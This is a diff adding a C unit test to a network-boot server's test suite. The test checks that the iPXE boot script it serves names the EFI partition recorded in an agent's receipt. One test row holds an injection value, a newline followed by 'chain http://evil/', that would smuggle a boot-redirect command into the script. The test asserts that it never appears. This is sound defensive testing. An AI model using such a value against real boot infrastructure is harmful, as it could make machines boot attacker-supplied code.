@@ -6,6 +6,7 @@
  */
 #include "tests/harness/check.h"
 
+#include <base/http_client.h>
 #include <base/json.h>
 #include <base/str.h>
 #include "tests/harness/fake_agent.h"
@@ -595,6 +596,59 @@ static void test_no_receipt(void **state)
 	fake_agent_done(&a);
 }
 
+/* The boot script as iPXE would get it; the caller frees. */
+static char *boot_script(const struct fake_agent *a)
+{
+	const struct http_client_options o = {.base_url = "http://slipway",
+					      .unix_socket = a->socket};
+	AUTO(http_client) struct http_client *http = http_client_new(&o, NULL);
+	autofree char *path = xasprintf("/boot/v1/script?mac=%s&arch=x86_64&platform=efi&cpu=lm",
+					a->mac);
+	const char *const headers[] = {"X-Slipway-Listener: plain", NULL};
+	const struct http_call call = {.path = path, .headers = headers};
+	struct http_reply reply = {0};
+	assert_int_equal(http_client_call(http, &call, &reply, NULL), 0);
+	assert_int_equal(reply.status, 200);
+	char *text = take_ptr(reply.body);
+	http_reply_done(&reply);
+	return text;
+}
+
+/* A host is sent to the loader that was written for it; a receipt's words never get into a script.
+ */
+static void test_boots_what_was_written(void **state)
+{
+	static const struct {
+		const char *name, *role, *uuid;
+		bool named;
+	} rows[] = {
+		{"the EFI system partition", "esp", "5d0f7a10-3c1e-4b57-9a41-51a7b1050101", true},
+		{"another partition", "root", "5d0f7a10-3c1e-4b57-9a41-51a7b1050101", false},
+		{"no UUID", "esp", "", false},
+		{"a script", "esp", "x\nchain http://evil/", false},
+	};
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+		struct fake_agent a;
+		to_image_step(&a, "S1", MAC_A);
+		need(fake_agent_permit(&a, NULL), 200, &a, "permit");
+		json_t *receipt = json_pack("{s:s, s:[{s:s, s:s}]}", "manifest_sha256",
+					    a.plan.image.image_digest, "partitions", "role",
+					    rows[i].role, "part_uuid", rows[i].uuid);
+		need(fake_agent_event(&a, "receipt", receipt), 200, &a, "receipt");
+		need(fake_agent_step_done(&a, "ok"), 200, &a, "imaged");
+		autofree char *script = boot_script(&a);
+		CHECK(rows[i].name, strstr(script, "sanboot --no-describe --drive 0 --filename"));
+		CHECK_INT(rows[i].name,
+			  strstr(script, "--uuid 5d0f7a10-3c1e-4b57-9a41-51a7b1050101 ") != NULL,
+			  rows[i].named);
+		CHECK(rows[i].name, !strstr(script, "evil"));
+		fake_agent_done(&a);
+		teardown(NULL);
+		CHECK_INT(rows[i].name, setup(NULL), 0);
+	}
+}
+
 int main(void)
 {
 #define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
@@ -615,6 +669,7 @@ int main(void)
 		T(test_deadline),
 		T(test_tampered_first_boot),
 		T(test_no_receipt),
+		T(test_boots_what_was_written),
 	};
 	cmocka_set_message_output(CM_OUTPUT_TAP);
 	return cmocka_run_group_tests_name("server flow", tests, NULL, NULL);
